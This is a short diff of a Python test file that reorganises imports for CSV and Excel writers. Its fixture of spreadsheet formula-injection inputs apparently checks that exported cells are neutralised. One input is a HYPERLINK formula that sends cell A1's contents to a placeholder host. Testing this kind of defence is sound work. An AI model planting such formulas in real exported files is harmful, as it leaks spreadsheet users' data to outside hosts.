@@ -9,7 +9,8 @@ import openpyxl
 import pandas as pd
 import xlsxwriter
 
-from zicht.engine.outputs.lists import neutralised, write_csv, write_xlsx
+from zicht.engine.outputs.lists import neutralised, write_csv
+from zicht.engine.outputs.workbook import write_xlsx
 
 NAMES = ['=HYPERLINK("http://x.invalid/?"&A1,"klik")', "+31 buurt", "-1+1", "@SUM(A1)", "\tTab"]
 HEADERS = {"thema": "Thema", "naam": "Naam", "risico": "Risico"}
